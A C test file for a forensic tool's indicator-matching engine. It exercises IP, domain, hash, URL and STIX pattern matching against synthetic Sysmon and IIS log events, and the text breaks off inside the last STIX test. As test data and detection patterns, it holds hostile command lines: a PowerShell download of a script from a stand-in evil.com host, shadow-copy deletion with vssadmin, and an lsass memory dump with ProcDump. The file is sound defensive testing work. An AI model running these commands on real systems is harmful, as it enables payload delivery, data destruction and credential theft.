/*
 * test_ioc.c — the indicator engine: loaders (lists, CSV, STIX 2.1, MISP
 * events and feeds), matching per indicator type with positives, near
 * misses and defanged forms, validity windows, compound STIX patterns, the
 * sighting log and its STIX 2.1 output (required properties, identifier
 * form, references resolving inside the bundle), the JSON parser on bad
 * input, fault injection, and `traccia ioc check`.
 *
 * Events are JSON lines in the evtx_dump shape (Sysmon) or IIS W3C lines,
 * read by the scanner like any evidence.
 */
#include "harness.h"

#include <regex.h>
#include <stdlib.h>
#include <sys/wait.h>

#include "../src/ioc/ioc.h"
#include "../src/ioc/ioc_json.h"

/* ---------------------------------------------------------------- helpers */

static char diag_text[16384];
static size_t diag_len, diag_errors, diag_warnings;

static void collect_diag(void *user, const tr_diag *d)
{
    (void)user;
    static const char *sev[] = {"info", "warning", "error"};
    if (diag_len < sizeof diag_text - 1)
        diag_len += (size_t)snprintf(diag_text + diag_len, sizeof diag_text - diag_len, "%s|%s|%s|%s\n",
                                     sev[d->severity], d->path, d->where, d->reason);
    if (diag_len >= sizeof diag_text)
        diag_len = sizeof diag_text - 1;
    diag_errors += d->severity == TR_SEV_ERROR;
    diag_warnings += d->severity == TR_SEV_WARNING;
}

static void diag_reset(void)
{
    diag_text[0] = '\0';
    diag_len = diag_errors = diag_warnings = 0;
}

/* A compiled set from one file's text (diagnostics collected above). */
static tr_iocset *set_from(const char *name, const char *text)
{
    diag_reset();
    tr_iocset *set = NULL;
    tr_iocset_options o = {collect_diag, NULL};
    CHECK_INT(tr_iocset_create(&set, &o), TR_OK);
    CHECK_INT(tr_iocset_add_memory(set, name, text, strlen(text)), TR_OK);
    CHECK_INT(tr_iocset_compile(set), TR_OK);
    return set;
}

typedef struct ioc_run {
    tr_ioc_matcher *m;
    tr_sighting_log *log;
    long hits;
    char out[32768]; /* "id|field|value\n" per sighting */
    size_t len;
} ioc_run;

static void on_sighting(void *user, const tr_detection *d)
{
    ioc_run *r = user;
    r->hits++;
    CHECK(d->rule && d->rule->kind == TR_RULE_INDICATOR);
    CHECK(d->matched_field && d->matched_value);
    CHECK(d->event != NULL);
    CHECK(d->first == TR_TIME_NONE && d->last == TR_TIME_NONE && d->ngroup == 0);
    CHECK(d->rule->title && strncmp(d->rule->title, "Indicator ", 10) == 0);
    if (r->len < sizeof r->out - 1)
        r->len += (size_t)snprintf(r->out + r->len, sizeof r->out - r->len, "%s|%s|%s\n", d->rule->id,
                                   d->matched_field ? d->matched_field : "", d->matched_value ? d->matched_value : "");
    if (r->len >= sizeof r->out)
        r->len = sizeof r->out - 1;
    if (r->log)
        CHECK_INT(tr_sighting_log_add(r->log, d), TR_OK);
}

static void run_hook(const tr_event *ev, size_t index, void *ctx)
{
    (void)index;
    ioc_run *r = ctx;
    size_t before = (size_t)r->hits;
    size_t n = tr_ioc_matcher_event(r->m, ev, on_sighting, r);
    CHECK_INT(n, (size_t)r->hits - before);
}

/* Runs the set over `events` (any format the scanner reads). */
static long hunt(const tr_iocset *set, const char *name, const char *events, ioc_run *r, bool with_log)
{
    memset(r, 0, sizeof *r);
    if (tr_ioc_matcher_create(&r->m, set) != TR_OK)
        return -1;
    if (with_log)
        CHECK_INT(tr_sighting_log_create(&r->log, set), TR_OK);
    scan_result sr = {0};
    sr.hook = run_hook;
    sr.hook_ctx = r;
    scan_memory(&sr, name, events, strlen(events));
    CHECK_INT(sr.nerrors, 0);
    scan_result_free(&sr);
    tr_ioc_matcher_destroy(r->m);
    r->m = NULL;
    return r->hits;
}

/* Sightings of the indicators in `iocs` (file `ioc_name`) over JSON lines. */
static long hits(const char *ioc_name, const char *iocs, const char *events)
{
    tr_iocset *set = set_from(ioc_name, iocs);
    static ioc_run r;
    long n = hunt(set, "events.jsonl", events, &r, false);
    tr_iocset_destroy(set);
    return n;
}

/* Checks the number of sightings, naming the events when it is wrong. */
static void expect_hits(int line, const char *ioc_name, const char *iocs, const char *events, long want)
{
    long got = hits(ioc_name, iocs, events);
    if (got != want) {
        char m[700];
        snprintf(m, sizeof m, "line %d: %ld sightings, want %ld, in %.500s", line, got, want, events);
        tr_test_fail(__FILE__, line, m);
    }
}
#define HITS(name, iocs, events, want) expect_hits(__LINE__, name, iocs, events, want)

#define SYSMON_AT(time, data)                                                                                  \
    "{\"Event\":{\"System\":{\"EventID\":3,\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","                \
    "\"Computer\":\"EXCH01\",\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"" time "\"}}},"                  \
    "\"EventData\":{" data "}}}\n"
#define SYSMON(data) SYSMON_AT("2021-03-03T01:02:03Z", data)

/* ---------------------------------------------------------------- values */

static void ioc_values_parse_strictly(void)
{
    ioc_ip ip;
    CHECK(tr_ioc_parse_ip("10.0.0.1", 8, &ip, false) && ip.family == 4 && ip.prefix == 32);
    CHECK(!tr_ioc_parse_ip("10.0.0", 6, &ip, false));
    CHECK(!tr_ioc_parse_ip("10.0.0.256", 10, &ip, false));
    CHECK(!tr_ioc_parse_ip("10.0.0.1.2", 10, &ip, false));
    CHECK(!tr_ioc_parse_ip("10.0.0.0/8", 10, &ip, false));
    CHECK(tr_ioc_parse_ip("10.9.8.7/8", 10, &ip, true) && ip.prefix == 8 && ip.addr[0] == 10 && ip.addr[1] == 0);
    CHECK(!tr_ioc_parse_ip("10.0.0.0/33", 11, &ip, true));
    CHECK(tr_ioc_parse_ip("2001:db8::1", 11, &ip, false) && ip.family == 6);
    CHECK(tr_ioc_parse_ip("::", 2, &ip, false) && ip.family == 6);
    CHECK(tr_ioc_parse_ip("::ffff:1.2.3.4", 14, &ip, false) && ip.family == 4 && ip.addr[3] == 4);
    CHECK(!tr_ioc_parse_ip("2001:db8:::1", 12, &ip, false));
    CHECK(!tr_ioc_parse_ip("1:2:3:4:5:6:7:8:9", 17, &ip, false));
    CHECK(tr_ioc_parse_ip("1:2:3:4:5:6:7:8", 15, &ip, false));
    CHECK(tr_ioc_parse_event_ip("1.2.3.4:443", 11, &ip) && ip.family == 4);
    CHECK(tr_ioc_parse_event_ip("[2001:db8::1]:443", 17, &ip) && ip.family == 6);
    CHECK(tr_ioc_parse_event_ip("fe80::1%eth0", 12, &ip) && ip.family == 6);
    CHECK(!tr_ioc_parse_event_ip("2021-03-03", 10, &ip));
    char buf[64];
    tr_ioc_parse_ip("2001:0db8:0000:0000:0000:0000:0000:0001", 39, &ip, false);
    tr_ioc_ip_format(&ip, buf, sizeof buf);
    CHECK_STRN(buf, strlen(buf), "2001:db8::1");
    CHECK(tr_ioc_domain_valid("evil.com", 8));
    CHECK(!tr_ioc_domain_valid("evil", 4));
    CHECK(!tr_ioc_domain_valid("1.2.3.4", 7));
    CHECK(!tr_ioc_domain_valid("-evil.com", 9));
    CHECK(!tr_ioc_domain_valid("evil..com", 9));
    /* defanged forms */
    const char *in[] = {"hxxp://evil[.]com/a", "evil(.)com", "1.2.3[.]4", "a[at]evil[.]com", "hxxps[://]x[.]org",
                        "evil[dot]com"};
    const char *want[] = {"http://evil.com/a", "evil.com", "1.2.3.4", "a@evil.com", "https://x.org", "evil.com"};
    for (size_t i = 0; i < sizeof in / sizeof in[0]; i++) {
        char out[64];
        size_t n = tr_ioc_refang(in[i], strlen(in[i]), out);
        CHECK_STRN(out, n, want[i]);
    }
    /* LIKE */
    CHECK(tr_ioc_like("%whoami%", 8, "cmd /c whoami /all", 18, false));
    CHECK(!tr_ioc_like("%whoami", 7, "cmd /c whoami /all", 18, false));
    CHECK(tr_ioc_like("a_c", 3, "abc", 3, false));
    CHECK(tr_ioc_like("a_c", 3, "a\xc3\xa9" "c", 4, false)); /* _ is one character */
    CHECK(!tr_ioc_like("a_c", 3, "abbc", 4, false));
    CHECK(tr_ioc_like("%.ASPX", 6, "x.aspx", 6, true));
}

static void ioc_list_types_detected(void)
{
    tr_iocset *set = set_from("feed.txt", "# advisory AA21-062A\n"
                                          "\n"
                                          "203.0.113.7\n"
                                          "10.0.0.0/8\n"
                                          "2001:db8::/32\n"
                                          "2001:db8:1::7\n"
                                          "evil.com\n"
                                          "hxxp://bad.example[.]org/owa/shell.aspx\n"
                                          "evil.net/drop/x.php\n"
                                          "d41d8cd98f00b204e9800998ecf8427e\n"
                                          "da39a3ee5e6b4b0d3255bfef95601890afd80709\n"
                                          "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855\n"
                                          "help.aspx\n"
                                          "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.aspx\n"
                                          "attacker[@]evil[.]com\n"
                                          "// a comment\n"
                                          "this is not an indicator\n"
                                          "evil.com\n"
                                          "198.51.100.9  # an inline comment\n");
    const tr_iocset_stats *s = tr_iocset_get_stats(set);
    CHECK_INT(s->counts.loaded, 14);
    CHECK_INT(s->counts.per_type[TR_IOC_IPV4], 3);
    CHECK_INT(s->counts.per_type[TR_IOC_IPV6], 2);
    CHECK_INT(s->counts.per_type[TR_IOC_DOMAIN], 1);
    CHECK_INT(s->counts.per_type[TR_IOC_URL], 2);
    CHECK_INT(s->counts.per_type[TR_IOC_MD5], 1);
    CHECK_INT(s->counts.per_type[TR_IOC_SHA1], 1);
    CHECK_INT(s->counts.per_type[TR_IOC_SHA256], 1);
    CHECK_INT(s->counts.per_type[TR_IOC_FILENAME], 1);
    CHECK_INT(s->counts.per_type[TR_IOC_PATH], 1);
    CHECK_INT(s->counts.per_type[TR_IOC_EMAIL], 1);
    CHECK_INT(s->counts.rejected, 1);
    CHECK_INT(s->counts.duplicates, 1);
    CHECK_CONTAINS(diag_text, "error|feed.txt|line 17|'this is not an indicator'");
    CHECK_INT(tr_iocset_source_count(set), 1);
    CHECK_INT(tr_iocset_source(set, 0)->format, TR_IOC_FORMAT_LIST);
    /* canonical values, ids and titles */
    const tr_rule_info *r = tr_iocset_indicator(set, 0);
    CHECK(r != NULL);
    if (r) {
        CHECK_CONTAINS(r->id, "feed.txt:3");
        CHECK_CONTAINS(r->title, "Indicator ipv4-addr 203.0.113.7 (feed.txt)");
        CHECK_INT(r->level, TR_LEVEL_HIGH);
        CHECK_INT(r->kind, TR_RULE_INDICATOR);
        CHECK_INT(r->line, 3);
        CHECK_INT(r->index, 0);
    }
    bool url_seen = false, hash_lower = false;
    for (size_t i = 0; i < tr_iocset_count(set); i++) {
        const char *v = tr_iocset_indicator_value(set, i);
        url_seen |= strcmp(v, "bad.example.org/owa/shell.aspx") == 0;
        hash_lower |= strcmp(v, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855") == 0;
    }
    CHECK(url_seen);
    CHECK(hash_lower);
    CHECK(tr_iocset_indicator(set, tr_iocset_count(set)) == NULL);
    tr_iocset_destroy(set);
}

/* ---------------------------------------------------------------- matching by type */

static void ioc_ip_exact_and_near_misses(void)
{
    const char *iocs = "10.0.0.1\n2001:db8::7\n";
    HITS("l.txt", iocs, SYSMON("\"DestinationIp\":\"10.0.0.1\""), 1);
    HITS("l.txt", iocs, SYSMON("\"DestinationIp\":\"10.0.0.10\""), 0);
    HITS("l.txt", iocs, SYSMON("\"DestinationIp\":\"10.0.0.11\""), 0);
    HITS("l.txt", iocs, SYSMON("\"DestinationIp\":\"110.0.0.1\""), 0);
    HITS("l.txt", iocs, SYSMON("\"Remote\":\"10.0.0.1:445\""), 1);
    HITS("l.txt", iocs, SYSMON("\"SourceIp\":\"::ffff:10.0.0.1\""), 1);
    HITS("l.txt", iocs, SYSMON("\"SourceIp\":\"2001:db8:0:0::7\""), 1);
    HITS("l.txt", iocs, SYSMON("\"SourceIp\":\"2001:db8::70\""), 0);
    HITS("l.txt", iocs, SYSMON("\"Addresses\":[\"192.0.2.1\",\"10.0.0.1\"]"), 1);
    /* one event, the address twice: one sighting */
    HITS("l.txt", iocs, SYSMON("\"SourceIp\":\"10.0.0.1\",\"DestinationIp\":\"10.0.0.1\""), 1);
    /* an address inside a URL */
    HITS("l.txt", iocs, SYSMON("\"Url\":\"http://10.0.0.1:8080/x\""), 1);
    /* text that merely contains it is not an address field */
    HITS("l.txt", iocs, SYSMON("\"Message\":\"connect to 10.0.0.1 failed\""), 0);
}

static void ioc_cidr_ranges(void)
{
    const char *iocs = "10.0.0.0/8\n192.168.4.0/22\n2001:db8::/32\n";
    HITS("l.txt", iocs, SYSMON("\"DestinationIp\":\"10.200.3.4\""), 1);
    HITS("l.txt", iocs, SYSMON("\"DestinationIp\":\"11.0.0.1\""), 0);
    HITS("l.txt", iocs, SYSMON("\"DestinationIp\":\"192.168.7.255\""), 1);
    HITS("l.txt", iocs, SYSMON("\"DestinationIp\":\"192.168.8.0\""), 0);
    HITS("l.txt", iocs, SYSMON("\"DestinationIp\":\"192.168.3.255\""), 0);
    HITS("l.txt", iocs, SYSMON("\"DestinationIp\":\"2001:db8:ffff::1\""), 1);
    HITS("l.txt", iocs, SYSMON("\"DestinationIp\":\"2001:db9::1\""), 0);
    /* an address in two ranges is a sighting of each */
    HITS("l.txt", "10.0.0.0/8\n10.1.0.0/16\n10.1.2.3\n", SYSMON("\"DestinationIp\":\"10.1.2.3\""), 3);
}

static void ioc_domains(void)
{
    const char *iocs = "evil.com\nbad-domain[.]net\n";
    HITS("l.txt", iocs, SYSMON("\"QueryName\":\"evil.com\""), 1);
    HITS("l.txt", iocs, SYSMON("\"QueryName\":\"EVIL.COM\""), 1);
    HITS("l.txt", iocs, SYSMON("\"QueryName\":\"www.evil.com\""), 1);
    HITS("l.txt", iocs, SYSMON("\"QueryName\":\"a.b.c.evil.com.\""), 1);
    HITS("l.txt", iocs, SYSMON("\"Host\":\"evil.com:8443\""), 1);
    HITS("l.txt", iocs, SYSMON("\"QueryName\":\"notevil.com\""), 0);
    HITS("l.txt", iocs, SYSMON("\"QueryName\":\"evil.com.au\""), 0);
    HITS("l.txt", iocs, SYSMON("\"QueryName\":\"evil.co\""), 0);
    HITS("l.txt", iocs, SYSMON("\"QueryName\":\"evilxcom\""), 0);
    HITS("l.txt", iocs, SYSMON("\"Url\":\"https://cdn.evil.com/a/b.js?x=1\""), 1);
    HITS("l.txt", iocs, SYSMON("\"Sender\":\"ceo@mail.evil.com\""), 1);
    HITS("l.txt", iocs, SYSMON("\"QueryName\":\"x.bad-domain.net\""), 1);
    /* a URL inside a command line */
    HITS("l.txt", iocs,
                   SYSMON("\"CommandLine\":\"powershell -c iwr https://dl.evil.com/p.ps1 -OutFile p.ps1\""), 1);
    HITS("l.txt", iocs, SYSMON("\"CommandLine\":\"ping evil.com.example\""), 0);
}

static void ioc_hashes(void)
{
    const char *iocs = "md5,44d88612fea8a8f36de82e1278abb02f\n"
                       "3395856ce81f2b7382dee72602f798b642f14140\n"
                       "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f\n";
    HITS("l.txt", iocs, SYSMON("\"Hash\":\"44D88612FEA8A8F36DE82E1278ABB02F\""), 1);
    HITS("l.txt", iocs, SYSMON("\"Hash\":\"44d88612fea8a8f36de82e1278abb02e\""), 0); /* one digit off */
    HITS("l.txt", iocs, SYSMON("\"Hash\":\"3395856ce81f2b7382dee72602f798b642f14140\""), 1);
    HITS("l.txt", iocs, SYSMON("\"Hash\":\"3395856ce81f2b7382dee72602f798b642f14141\""), 0);
    /* Sysmon's Hashes list */
    HITS("l.txt", iocs,
                   SYSMON("\"Hashes\":\"SHA1=0000000000000000000000000000000000000000,"
                          "MD5=44D88612FEA8A8F36DE82E1278ABB02F,"
                          "SHA256=275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F,"
                          "IMPHASH=00000000000000000000000000000000\""), 2);
    HITS("l.txt", iocs,
                   SYSMON("\"Hashes\":\"MD5=44D88612FEA8A8F36DE82E1278ABB02E,"
                          "SHA256=275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0E\""), 0);
    /* an imphash equal to an MD5 indicator is not a file digest */
    HITS("l.txt", iocs, SYSMON("\"Hashes\":\"IMPHASH=44D88612FEA8A8F36DE82E1278ABB02F\""), 0);
}

static void ioc_file_names_and_paths(void)
{
    const char *iocs = "help.aspx\n"
                       "file-path,C:\\Windows\\Temp\\dropper.exe\n";
    HITS("l.txt", iocs, SYSMON("\"TargetFilename\":\"C:\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\help.aspx\""), 1);
    HITS("l.txt", iocs, SYSMON("\"TargetFilename\":\"C:\\\\inetpub\\\\HELP.ASPX\""), 1);
    HITS("l.txt", iocs, SYSMON("\"TargetFilename\":\"/var/www/help.aspx\""), 1);
    HITS("l.txt", iocs, SYSMON("\"OriginalFileName\":\"help.aspx\""), 1);
    HITS("l.txt", iocs, SYSMON("\"TargetFilename\":\"C:\\\\inetpub\\\\xhelp.aspx\""), 0);
    HITS("l.txt", iocs, SYSMON("\"TargetFilename\":\"C:\\\\inetpub\\\\help.aspx.bak\""), 0);
    HITS("l.txt", iocs, SYSMON("\"TargetFilename\":\"C:\\\\help.aspx\\\\other.txt\""), 0);
    HITS("l.txt", iocs, SYSMON("\"Image\":\"c:\\\\windows\\\\temp\\\\DROPPER.exe\""), 1);
    HITS("l.txt", iocs, SYSMON("\"Image\":\"c:\\\\windows\\\\temp2\\\\dropper.exe\""), 0);
    /* web paths, from W3C logs */
    const char *w3c = "#Software: Microsoft Internet Information Services 10.0\n"
                      "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port c-ip cs(User-Agent) sc-status\n"
                      "2021-03-03 01:02:03 10.1.1.1 POST /aspnet_client/help.aspx - 443 203.0.113.9 curl/7.68 200\n"
                      "2021-03-03 01:02:04 10.1.1.1 POST /aspnet_client/help.aspx2 - 443 203.0.113.9 curl/7.68 200\n";
    tr_iocset *set = set_from("l.txt", iocs);
    ioc_run r;
    CHECK_INT(hunt(set, "u_ex210303.log", w3c, &r, false), 1);
    CHECK_CONTAINS(r.out, "l.txt:1|cs-uri-stem|/aspnet_client/help.aspx");
    tr_iocset_destroy(set);
}

static void ioc_urls(void)
{
    const char *iocs = "hxxp://bad.example[.]org/owa/auth/shell.aspx\nhttps://evil.net/\n";
    HITS("l.txt", iocs, SYSMON("\"Url\":\"http://bad.example.org/owa/auth/shell.aspx\""), 1);
    HITS("l.txt", iocs, SYSMON("\"Url\":\"https://BAD.example.org:443/owa/auth/shell.aspx?cmd=whoami\""), 1);
    HITS("l.txt", iocs, SYSMON("\"Url\":\"http://bad.example.org/owa/auth/shell.aspx2\""), 0);
    HITS("l.txt", iocs, SYSMON("\"Url\":\"http://bad.example.org/OWA/auth/shell.aspx\""), 0);
    HITS("l.txt", iocs, SYSMON("\"Url\":\"http://bad.example.org:8080/owa/auth/shell.aspx\""), 0);
    HITS("l.txt", iocs, SYSMON("\"Url\":\"https://evil.net\""), 1);
    HITS("l.txt", iocs, SYSMON("\"Url\":\"https://evil.net/x\""), 0);
    /* a URL longer than MAX_PATH, with a long query */
    HITS("l.txt", iocs,
         SYSMON("\"Url\":\"http://bad.example.org/owa/auth/shell.aspx?a=0123456789012345678901234567890123456789"
                "&b=0123456789012345678901234567890123456789&c=0123456789012345678901234567890123456789"
                "&d=0123456789012345678901234567890123456789&e=0123456789012345678901234567890123456789"
                "&f=0123456789012345678901234567890123456789%20x#frag\""),
         1);
    /* IIS splits the URL over cs-host, cs-uri-stem and cs-uri-query */
    const char *w3c = "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port c-ip cs(Host) sc-status\n"
                      "2021-03-03 01:02:03 10.1.1.1 GET /owa/auth/shell.aspx x=1 443 203.0.113.9 bad.example.org 200\n"
                      "2021-03-03 01:02:04 10.1.1.1 GET /owa/auth/shell.aspx x=1 443 203.0.113.9 good.example.org 200\n";
    tr_iocset *set = set_from("l.txt", iocs);
    ioc_run r;
    CHECK_INT(hunt(set, "u_ex210303.log", w3c, &r, false), 1);
    tr_iocset_destroy(set);
}

static void ioc_emails_users_agents(void)
{
    HITS("l.txt", "attacker@evil.com\n", SYSMON("\"Sender\":\"Attacker@Evil.com\""), 1);
    HITS("l.txt", "attacker@evil.com\n", SYSMON("\"Sender\":\"attacker2@evil.com\""), 0);
    HITS("l.txt", "attacker@evil.com\n", SYSMON("\"Sender\":\"xattacker@evil.com\""), 0);
    /* typed lines: user names and user agents */
    const char *iocs = "username,svc_backup\nuser-agent,python-requests\n";
    HITS("l.txt", iocs, SYSMON("\"TargetUserName\":\"CORP\\\\svc_backup\""), 1);
    HITS("l.txt", iocs, SYSMON("\"TargetUserName\":\"svc_backup2\""), 0);
    const char *w3c = "#Fields: date time cs-uri-stem c-ip cs(User-Agent)\n"
                      "2021-03-03 01:02:03 /owa/ 203.0.113.9 Python-Requests/2.25.1\n"
                      "2021-03-03 01:02:04 /owa/ 203.0.113.9 Mozilla/5.0+(Windows+NT+10.0)\n";
    tr_iocset *set = set_from("l.txt", iocs);
    ioc_run r;
    CHECK_INT(hunt(set, "u_ex.log", w3c, &r, false), 1);
    CHECK_CONTAINS(r.out, "|cs-user-agent|Python-Requests/2.25.1");
    tr_iocset_destroy(set);
}

static void ioc_csv_with_header(void)
{
    /* MISP's CSV export: to_ids 0 rows are left out; the type column decides */
    const char *csv = "uuid,event_id,category,type,value,comment,to_ids,date\n"
                      "5f1a0000-0000-4000-8000-000000000001,1,Network activity,ip-dst,203.0.113.7,c2,1,1600000000\n"
                      "5f1a0000-0000-4000-8000-000000000002,1,Network activity,domain,evil.com,,0,1600000000\n"
                      "5f1a0000-0000-4000-8000-000000000003,1,Payload delivery,filename|md5,"
                      "x.exe|44d88612fea8a8f36de82e1278abb02f,,1,1600000000\n"
                      "5f1a0000-0000-4000-8000-000000000004,1,Other,mutex,Global\\xyz,,1,1600000000\n"
                      "5f1a0000-0000-4000-8000-000000000005,1,Network activity,ip-dst,not-an-ip,,1,1600000000\n";
    tr_iocset *set = set_from("misp.csv", csv);
    const tr_iocset_stats *s = tr_iocset_get_stats(set);
    CHECK_INT(s->counts.loaded, 2);
    CHECK_INT(s->counts.not_ids, 1);
    CHECK_INT(s->counts.rejected, 2);
    CHECK_INT(s->counts.unsupported, 1);
    CHECK_CONTAINS(diag_text, "misp.csv|line 5|type 'mutex' is not supported");
    CHECK_CONTAINS(diag_text, "misp.csv|line 6|5f1a0000-0000-4000-8000-000000000005: 'not-an-ip'");
    CHECK_INT(s->counts.per_type[TR_IOC_MD5], 1);
    const tr_rule_info *r = tr_iocset_indicator(set, 0);
    CHECK(r && strcmp(r->id, "5f1a0000-0000-4000-8000-000000000001") == 0);
    ioc_run run;
    CHECK_INT(hunt(set, "e.jsonl", SYSMON("\"DestinationIp\":\"203.0.113.7\",\"QueryName\":\"evil.com\""), &run, false),
              1);
    tr_iocset_destroy(set);
    /* a tab-separated list without a header: the first field that is an indicator */
    HITS("l.tsv", "c2 server\t203.0.113.7\tseen 2021-03\n", SYSMON("\"DestinationIp\":\"203.0.113.7\""), 1);
}

static void ioc_defanged_forms_match(void)
{
    const char *iocs = "hxxps://evil[.]com/a.php\n198.51.100[.]23\nupdate[.]evil(.)org\nx[@]evil[.]net\n";
    tr_iocset *set = set_from("l.txt", iocs);
    CHECK_INT(tr_iocset_get_stats(set)->counts.loaded, 4);
    CHECK_INT(tr_iocset_get_stats(set)->counts.rejected, 0);
    tr_iocset_destroy(set);
    HITS("l.txt", iocs, SYSMON("\"Url\":\"https://evil.com/a.php\""), 1);
    HITS("l.txt", iocs, SYSMON("\"DestinationIp\":\"198.51.100.23\""), 1);
    HITS("l.txt", iocs, SYSMON("\"QueryName\":\"update.evil.org\""), 1);
    HITS("l.txt", iocs, SYSMON("\"Sender\":\"x@evil.net\""), 1);
}

/* ---------------------------------------------------------------- STIX */

#define STIX_IND(id, pattern, extra)                                                                          \
    "{\"type\":\"indicator\",\"spec_version\":\"2.1\",\"id\":\"indicator--" id "\","                            \
    "\"created\":\"2021-03-02T10:00:00.000Z\",\"modified\":\"2021-03-02T10:00:00.000Z\","                      \
    "\"pattern\":\"" pattern "\",\"pattern_type\":\"stix\"" extra "}"
#define ID1 "8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f"
#define ID2 "a932fcc6-e032-476c-826f-cb970a5a1ade"
#define ID3 "0c8d9b4a-5b0f-4b7c-9a1e-0a0b0c0d0e0f"
#define ID4 "1c8d9b4a-5b0f-4b7c-9a1e-0a0b0c0d0e0f"
#define ID5 "2c8d9b4a-5b0f-4b7c-9a1e-0a0b0c0d0e0f"
#define ID6 "3c8d9b4a-5b0f-4b7c-9a1e-0a0b0c0d0e0f"
#define ID7 "4c8d9b4a-5b0f-4b7c-9a1e-0a0b0c0d0e0f"
#define ID8 "5c8d9b4a-5b0f-4b7c-9a1e-0a0b0c0d0e0f"
#define ID9 "6c8d9b4a-5b0f-4b7c-9a1e-0a0b0c0d0e0f"
#define VALID ",\"valid_from\":\"2021-01-01T00:00:00Z\""

static void ioc_stix_types_and_operators(void)
{
    const char *bundle =
        "{\"type\":\"bundle\",\"id\":\"bundle--44af6c39-c09b-49c5-9de2-394224b04982\",\"objects\":[\n"
        STIX_IND(ID1, "[ipv4-addr:value = '203.0.113.7']", VALID ",\"labels\":[\"c2\"],\"name\":\"C2\"") ",\n"
        STIX_IND(ID2, "[domain-name:value = 'evil.com'] OR [url:value = 'http://x.org/a']", VALID) ",\n"
        STIX_IND(ID3, "[file:hashes.'SHA-256' = '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f']", VALID) ",\n"
        STIX_IND(ID4, "[network-traffic:dst_ref.type = 'ipv4-addr' AND network-traffic:dst_ref.value = '198.51.100.2' AND network-traffic:dst_port = 443]", VALID) ",\n"
        STIX_IND(ID5, "[file:name IN ('help.aspx', 'errorEE.aspx')]", VALID) ",\n"
        STIX_IND(ID6, "[process:command_line LIKE '%vssadmin% delete shadows%']", VALID) ",\n"
        STIX_IND(ID7, "[process:command_line MATCHES '(?i)procdump(64)?\\\\\\\\.exe.+lsass']", VALID) ",\n"
        STIX_IND(ID8, "[email-addr:value = 'phish@evil.com'] OR [user-account:user_id = 'backdoor']", VALID) ",\n"
        STIX_IND(ID9, "[ipv4-addr:value ISSUBSET '192.0.2.0/24']", VALID) ",\n"
        "{\"type\":\"malware\",\"id\":\"malware--1\",\"name\":\"x\"}\n"
        "]}\n";
    tr_iocset *set = set_from("bundle.json", bundle);
    const tr_iocset_stats *s = tr_iocset_get_stats(set);
    CHECK_INT(s->counts.loaded, 9);
    CHECK_INT(s->counts.rejected, 0);
    CHECK_INT(diag_errors + diag_warnings, 0);
    CHECK_INT(tr_iocset_source(set, 0)->format, TR_IOC_FORMAT_STIX);
    const tr_rule_info *r = tr_iocset_indicator(set, 0);
    CHECK(r && strcmp(r->id, "indicator--" ID1) == 0 && r->ntags == 1 && strcmp(r->tags[0], "c2") == 0);
    CHECK(r && strstr(r->title, "ipv4-addr 203.0.113.7") && strcmp(r->name, "C2") == 0);
    ioc_run run;
    struct {
        const char *data;
        long want;
    } cases[] = {
        {"\"SourceIp\":\"203.0.113.7\"", 1},
        {"\"SourceIp\":\"203.0.113.70\"", 0},
        {"\"QueryName\":\"sub.evil.com\"", 1},
        {"\"Url\":\"http://x.org/a\"", 1},
        {"\"Url\":\"http://x.org/b\"", 0},
        {"\"Hashes\":\"SHA256=275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F\"", 1},
        /* AND: the address alone, the port alone, both, the address as a source */
        {"\"DestinationIp\":\"198.51.100.2\",\"DestinationPort\":80", 0},
        {"\"DestinationIp\":\"198.51.100.3\",\"DestinationPort\":443", 0},
        {"\"DestinationIp\":\"198.51.100.2\",\"DestinationPort\":443", 1},
        {"\"SourceIp\":\"198.51.100.2\",\"DestinationPort\":443", 0},
        {"\"TargetFilename\":\"C:\\\\inetpub\\\\errorEE.aspx\"", 1},
        {"\"TargetFilename\":\"C:\\\\inetpub\\\\error.aspx\"", 0},
        {"\"CommandLine\":\"vssadmin.exe delete shadows /all /quiet\"", 1},
        {"\"CommandLine\":\"vssadmin.exe list shadows\"", 0},
        {"\"CommandLine\":\"C:\\\\t\\\\ProcDump64.exe -ma lsass.exe out.dmp\"", 1},
        {"\"CommandLine\":\"C:\\\\t\\\\procdump.exe -ma notepad.exe\"", 0},
        {"\"Sender\":\"phish@evil.com\"", 2}, /* the e-mail indicator, and evil.com */
        {"\"TargetUserName\":\"BACKDOOR\"", 1},
        {"\"TargetUserName\":\"backdoor1\"", 0},
        {"\"SourceIp\":\"192.0.2.200\"", 1},
        {"\"SourceIp\":\"192.0.3.1\"", 0},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char ev[1024];
        snprintf(ev, sizeof ev,
                 "{\"Event\":{\"System\":{\"EventID\":3,\"Computer\":\"EXCH01\",\"TimeCreated\":{\"#attributes\":"
                 "{\"SystemTime\":\"2021-03-03T01:02:03Z\"}}},\"EventData\":{%s}}}\n",
                 cases[i].data);
        long got = hunt(set, "e.jsonl", ev, &run, false);
        if (got != cases[i].want) {
            char m[1400];
            snprintf(m, sizeof m, "case %zu (%.300s): %ld sightings, want %ld\n%.800s", i, cases[i].data, got,
                     cases[i].want, run.out);
            tr_test_fail(__FILE__, __LINE__, m);
        }
    }
    tr_iocset_destroy(set);
}

static void ioc_stix_unsupported_reported_by_id(void)
{
    const char *bundle =
        "{\"type\":\"bundle\",\"id\":\"bundle--44af6c39-c09b-49c5-9de2-394224b04982\",\"objects\":[\n"
        STIX_IND(ID1, "[ipv4-addr:value != '203.0.113.7']", VALID) ",\n"
        STIX_IND(ID2, "[ipv4-addr:value = '1.2.3.4'] FOLLOWEDBY [domain-name:value = 'evil.com']", VALID) ",\n"
        STIX_IND(ID3, "[windows-registry-key:key = 'HKLM\\\\\\\\x']", VALID) ",\n"
